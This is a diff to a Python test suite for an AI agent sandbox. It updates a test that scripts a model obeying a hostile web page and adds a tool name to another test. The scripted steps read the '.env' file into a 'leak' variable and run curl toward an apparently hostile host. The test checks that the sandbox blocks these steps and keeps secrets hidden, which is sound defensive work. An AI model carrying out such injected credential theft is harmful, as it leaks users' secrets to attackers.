@@ -303,6 +303,8 @@ async def test_a_model_that_obeys_a_hostile_page_does_nothing_outside_the_envelo
             apply(create("leak = open('.env').read()\nleak", name="leak"), create(post, name="post")),
             CallTool("shell", {"command": ["curl", take]}),
             DONE,
+            # Once more: cells have failed.
+            DONE,
         )
         network = Network(private_hosts=frozenset({HOST, EVIL}), resolve=web.resolve)
         agreed = an_envelope(path.parent, UseNetwork(host=HOST, port=web.port))
@@ -312,7 +314,7 @@ async def test_a_model_that_obeys_a_hostile_page_does_nothing_outside_the_envelo
             asked.append((await driver.say_no("Nor that.")).partition(" in ")[0])
             report = await driver.report()
             assert asked == [f"Connect to {EVIL}", f"Connect to {EVIL}", f'Run "curl" "{take}"']
-            assert (report.outcome, report.turns, report.failed_turns) == ("finished", 6, 4)
+            assert (report.outcome, report.turns, report.failed_turns) == ("finished", 7, 4)
             assert web.came == [(HOST, "/weights")]
             assert "'.env' looks like a secret and is hidden" in driver.sent_text(3)
             assert not any(secret in driver.sent_text(number) for number in range(1, 7))
@@ -370,7 +372,7 @@ async def test_every_tool_that_a_built_in_role_names_is_there(
         Records.open(where, chain_key=CHAIN_KEY, types=EVENT_TYPES) as records,
         open_agent_context(path, workflow="r", records=records, person="ada", options=options) as studio,
     ):
-        there = {tool.name for tool in studio.tools} | {"compare_readings", "run_program"}
+        there = {tool.name for tool in studio.tools} | {"compare_readings", "run_program", "plan"}
         named = {(role.name, tool) for role in built_in_roles().values() for tool in role.tools}
     assert {(role, tool) for role, tool in named if tool not in there} == set()
     assert {"git_commit", "install_package", "read_web_page", "shell", "call_function"} <= there
